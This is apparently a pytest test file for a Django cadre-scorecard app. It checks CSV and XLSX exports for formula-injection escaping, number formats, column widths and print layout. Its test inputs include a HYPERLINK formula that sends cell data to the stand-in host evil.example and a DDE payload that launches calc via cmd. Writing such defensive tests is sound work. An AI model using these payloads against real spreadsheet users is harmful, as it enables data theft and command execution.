"""Formula injection: text a spreadsheet would run ("=HYPERLINK(...)") is exported as text; numbers stay numbers."""

import datetime
import zipfile
from decimal import Decimal
from io import BytesIO

import pytest
import tablib
from django.contrib import admin
from django.db import connection
from django.test import RequestFactory
from django.test.utils import CaptureQueriesContext
from django.utils import timezone
from import_export.formats.base_formats import CSV, XLSX
from openpyxl import load_workbook

from assessments.models import Scorecard
from assessments.resources import ScorecardResource
from assessments.selectors import scorecards
from assessments.services import export_scorecards, period_months, score_period
from cadres.models import AttendanceReport
from households.models import Household
from povertyboard.exports import escape_dataset, escape_formula
from tests.factories import (
    make_assignment,
    make_cadre,
    make_county,
    make_duty_rating,
    make_household,
    make_period,
    make_survey,
    make_township,
    make_unit,
    make_veto,
    make_village,
)

LINK = '=HYPERLINK("http://evil.example/?x="&A1,"点击")'


@pytest.mark.parametrize("text", [LINK, "+1+1", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1", "=1"])
def test_formula_text_gets_an_apostrophe(text):
    assert escape_formula(text) == "'" + text


@pytest.mark.parametrize("value", ["演示户主", "a=b", "", None, -5, Decimal("-12.50"), 3.5, "-12.50", "+86", "-1e3",
                                   datetime.date(2016, 5, 1)])
def test_other_values_are_left_as_they_are(value):
    assert escape_formula(value) == value


def test_escape_dataset_keeps_headers_title_and_numbers():
    data = tablib.Dataset(["=1+1", -3, Decimal("-1.5"), "-"], headers=["名", "数", "额", "备注"], title="表")
    escaped = escape_dataset(data)
    assert escaped.headers == ["名", "数", "额", "备注"] and escaped.title == "表"
    assert list(escaped[0]) == ["'=1+1", -3, Decimal("-1.5"), "'-"]


@pytest.mark.django_db
def test_scorecard_export_writes_a_formula_name_as_text():
    county = make_county("632801", name="格尔木市")
    period = make_period(county, name="2016年度")
    village = make_village(make_township(county))
    cadre = make_cadre(county, make_unit(county, name="@SUM(A1:A9)"), name=LINK)
    make_assignment(cadre, village, start_date=datetime.date(2015, 10, 1))
    make_duty_rating(period, cadre, score=Decimal(80))
    make_survey(period, cadre)
    make_veto(period, cadre, reason="-未报备擅自离岗")
    score_period(period)

    content = export_scorecards(period, scorecards(period))
    sheet = load_workbook(BytesIO(content)).active
    headers = [c.value for c in sheet[2]]
    row = {h: sheet.cell(3, i) for i, h in enumerate(headers, start=1)}
    assert row["姓名"].value == LINK and row["姓名"].data_type == "s"  # the text as typed, as a text cell
    assert row["派出单位"].value == "@SUM(A1:A9)" and row["派出单位"].data_type == "s"
    assert row["一票否决原因"].value == "-未报备擅自离岗" and row["一票否决原因"].data_type == "s"
    assert row["履职得分（权重3）"].data_type == "n"  # numbers stay numeric cells
    with zipfile.ZipFile(BytesIO(content)) as xlsx:
        assert "<f>" not in xlsx.read("xl/worksheets/sheet1.xml").decode()  # no formula anywhere in the file


@pytest.mark.django_db
@pytest.mark.parametrize("file_format", [CSV(), XLSX()])
def test_admin_registry_export_escapes_formula_text(django_user_model, file_format):
    household = make_household(make_village(make_township(make_county())), head_name="=1+cmd|' /C calc'!A0")
    request = RequestFactory().get("/admin/households/household/export/")
    request.user = django_user_model.objects.create_superuser("root")
    model_admin = admin.site._registry[Household]
    model_admin.request = request
    exported = model_admin.get_export_data(file_format, request, Household.objects.filter(pk=household.pk),
                                           encoding="utf-8")
    if isinstance(file_format, CSV):
        text = exported.decode()
        assert "'=1+cmd" in text and ",=1+cmd" not in text
    else:
        sheet = load_workbook(BytesIO(exported)).active
        values = [c.value for c in sheet[2]]
        assert "'=1+cmd|' /C calc'!A0" in values
        assert all(c.data_type != "f" for c in sheet[2])


def _resident(period, village, unit, name, complete=True):
    cadre = make_cadre(period.county, unit, name=name)
    make_assignment(cadre, village, start_date=datetime.date(2015, 10, 1))
    if complete:
        AttendanceReport.objects.bulk_create([AttendanceReport(cadre=cadre, month=m, required_days=20, days_present=18)
                                              for m in period_months(period)])
        make_duty_rating(period, cadre, score=Decimal("81.5"))
        make_survey(period, cadre)
    return cadre


@pytest.mark.django_db
def test_scorecard_export_numbers_missing_values_headers_and_widths():
    county = make_county("632801", name="格尔木市")
    period = make_period(county, name="2016年度")
    village, unit = make_village(make_township(county)), make_unit(county)
    scored = _resident(period, village, unit, "演示干部甲")
    _resident(period, village, unit, "演示干部乙" * 3 + "ABC", complete=False)  # 15 CJK + 3 Latin: 33 columns
    cards = {c.cadre_id: c for c in score_period(period)}

    sheet = load_workbook(BytesIO(export_scorecards(period, scorecards(period)))).active
    headers = [c.value for c in sheet[2]]  # below the heading row
    assert headers == [str(h) for h in ScorecardResource(period).get_export_headers()]
    assert sheet.freeze_panes == "A3" and sheet.max_row == 4
    rows = {sheet.cell(r, 3).value: {h: sheet.cell(r, i) for i, h in enumerate(headers, start=1)} for r in (3, 4)}
    complete, missing = rows["演示干部甲"], rows["演示干部乙" * 3 + "ABC"]
    card = cards[scored.pk]
    for header, value in (("考勤得分（权重3）", card.attendance), ("履职得分（权重3）", Decimal("81.50")),
                          ("满意度得分（权重4）", card.satisfaction), ("加分", Decimal("0.00")), ("总分", card.total)):
        cell = complete[header]
        assert cell.data_type == "n" and cell.number_format == "0.00", header
        assert Decimal(str(cell.value)).quantize(Decimal("0.01")) == value, header
    assert complete["县内排名"].value == 1 and complete["县内排名"].number_format == "0"
    assert complete["职务"].value == "第一书记" and complete["等次"].value == str(card.get_grade_display())
    # the cadre with no inputs: components, total and ranks are empty cells, never 0; the grade says why
    for header in ("考勤得分（权重3）", "履职得分（权重3）", "满意度得分（权重4）", "总分", "县内排名", "一票否决原因"):
        assert missing[header].value is None, header
    assert missing["加分"].value == 0  # no bonus item is a bonus of 0, not a missing input
    assert missing["等次"].value == "数据不全" and "履职评分" in missing["缺少的数据"].value
    widths = {h: sheet.column_dimensions[c.column_letter].width for h, c in complete.items()}
    assert 35 <= widths["姓名"] <= 36  # 33 + 2, as xlsxwriter stores it (with its padding)
    assert 8 <= widths["加分"] < 9  # "0.00"-wide numbers under a short header: the minimum of 8


@pytest.mark.django_db
def test_scorecard_export_queries_do_not_grow_with_rows():
    county = make_county("632801", name="格尔木市")
    period = make_period(county, name="2016年度")
    village, unit = make_village(make_township(county)), make_unit(county)

    def export_queries(n):
        for i in range(n):
            _resident(period, village, unit, f"干部{n}-{i}", complete=i % 2 == 0)
        score_period(period)
        with CaptureQueriesContext(connection) as ctx:
            content = export_scorecards(period, scorecards(period))
        assert load_workbook(BytesIO(content)).active.max_row == 2 + Scorecard.objects.filter(period=period).count()
        return len(ctx)

    assert export_queries(2) == export_queries(40)


@pytest.mark.django_db
def test_scorecard_export_has_a_heading_a_filter_and_prints_landscape_one_page_wide():
    county = make_county("632801", name="格尔木市")
    period = make_period(county, name="2016年度")
    village, unit = make_village(make_township(county)), make_unit(county)
    for name in ("演示干部甲", "演示干部乙", "演示干部丙"):
        _resident(period, village, unit, name)
    score_period(period)

    sheet = load_workbook(BytesIO(export_scorecards(period, scorecards(period)))).active
    assert sheet["A1"].value == f"格尔木市 2016年度 331考核记分卡（导出日期 {timezone.localdate().isoformat()}）"
    assert sheet["A1"].font.b and sheet["A2"].value == "县（市）"
    assert sheet.freeze_panes == "A3"  # the heading and the header stay in view
    last_column = sheet.cell(2, sheet.max_column).column_letter
    assert sheet.auto_filter.ref == f"A2:{last_column}5"  # the header and the three cadres
    assert sheet.page_setup.orientation == "landscape" and sheet.page_setup.paperSize == 9  # A4
    assert sheet.sheet_properties.pageSetUpPr.fitToPage
    # one page wide (1 is the file format's default, which xlsxwriter leaves out), as many long as it takes
    assert sheet.page_setup.fitToWidth in (None, 1) and sheet.page_setup.fitToHeight == 0
    assert sheet.print_title_rows == "$2:$2"  # the header on every printed page
